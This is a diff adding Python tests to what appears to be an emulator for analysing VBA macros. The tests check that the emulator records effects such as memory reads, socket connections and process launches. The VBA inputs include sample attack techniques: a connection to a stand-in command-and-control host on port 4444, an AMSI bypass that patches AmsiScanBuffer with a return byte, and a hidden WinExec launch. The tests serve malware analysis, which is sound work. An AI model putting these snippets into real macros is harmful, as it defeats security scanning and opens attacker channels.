@@ -433,3 +433,92 @@ def test_any_function_with_any_arguments(calls):
         with contextlib.suppress(ScriptError, ScriptEnd, LimitReached):
             api.invoke(made, name, args)
     made.finish()
+
+
+def test_variants_are_laid_out_as_in_memory():
+    """A text, a number and an array in a Variant, found by the address of the Variant plus eight."""
+    outcome = run(
+        """
+        Dim address As Long, v, n, a, first As Integer, p As LongPtr, b As Byte
+        v = "Az": n = 77: a = Array(5, 6)
+        Dim data(1) As Byte: data(1) = 9: a = data
+        RtlMoveMemory2 address, ByVal VarPtr(v) + 8, 4
+        RtlMoveMemory2 first, ByVal address, 2
+        Main = first
+        RtlMoveMemory2 address, ByVal VarPtr(n) + 8, 4
+        Main = Main & " " & address
+        RtlMoveMemory2 p, ByVal VarPtr(a) + 8, 8
+        RtlMoveMemory2 p, ByVal p + 16, 8
+        RtlMoveMemory2 b, ByVal p + 1, 1
+        Main = Main & " " & b
+        """,
+        before=declare("RtlMoveMemory2", "ntdll", "d As Any, s As Any, ByVal n As LongPtr", "RtlMoveMemory", "Sub"),
+    )
+    assert outcome.value == "65 77 9"
+
+
+SOCKETS = (
+    """
+    Private Type ADDRINFO
+        ai_flags As Long
+        ai_family As Long
+        ai_socktype As Long
+        ai_protocol As Long
+        ai_addrlen As Long
+        ai_canonName As LongPtr
+        ai_addr As LongPtr
+        ai_next As LongPtr
+    End Type
+    Private Type SOCKADDR
+        sin_family As Integer
+        sin_port As Integer
+        sin_addr As Long
+        zero As String * 8
+    End Type
+    """
+    + declare("getaddrinfo", "ws2_32", "ByVal h As String, ByVal s As String, ByVal i As LongPtr, r As LongPtr")
+    + declare("Connect1", "ws2_32", "ByVal s As LongPtr, ByVal a As LongPtr, ByVal n As Long", "connect")
+    + declare("Connect2", "ws2_32", "ByVal s As LongPtr, a As SOCKADDR, ByVal n As Long", "connect")
+    + declare("htons", "ws2_32", "ByVal n As Long")
+    + declare("inet_addr", "ws2_32", "ByVal s As String")
+    + declare("Copy", "kernel32", "d As Any, ByVal s As LongPtr, ByVal n As LongPtr", "RtlMoveMemory", "Sub")
+)
+
+
+def test_connections():
+    outcome = run(
+        """
+        Dim list As LongPtr, info As ADDRINFO, where As SOCKADDR
+        x = getaddrinfo("c2.example.test", "4444", 0, list)
+        Copy info, list, LenB(info)
+        Main = LenB(info) & " " & Len(where) & " " & info.ai_socktype
+        x = Connect1(5, info.ai_addr, 16)
+        where.sin_family = 2: where.sin_port = htons(8080): where.sin_addr = inet_addr("192.0.2.7")
+        x = Connect2(5, where, 16)
+        """,
+        before=SOCKETS,
+    )
+    assert outcome.value == "48 16 1"
+    assert outcome.effects() == [("connect", "c2.example.test:4444"), ("connect", "192.0.2.7:8080")]
+
+
+def test_functions_that_are_written_over():
+    outcome = run(
+        """
+        Dim b(1) As Byte
+        b(0) = 195
+        Copy2 ByVal GetProcAddress(LoadLibraryA("amsi.dll"), "AmsiScanBuffer"), b(0), 1
+        """,
+        before=declare("LoadLibraryA", "kernel32", "ByVal n As String")
+        + declare("GetProcAddress", "kernel32", "ByVal m As LongPtr, ByVal n As String")
+        + declare("Copy2", "kernel32", "d As Any, s As Any, ByVal n As LongPtr", "RtlMoveMemory", "Sub"),
+    )
+    assert outcome.effects() == [("load", "code over amsi!AmsiScanBuffer: c3")]
+
+
+def test_named_arguments_of_functions():
+    outcome = run(
+        'x = WinExec(nShow:=0, cmd:="calc.exe")', before=declare("WinExec", "kernel32", "ByVal cmd As String, ByVal nShow As Long")
+    )
+    assert outcome.effects() == [("run", "calc.exe")]
+    assert outcome.fact("effect.run").detail["show_window"] == "0"
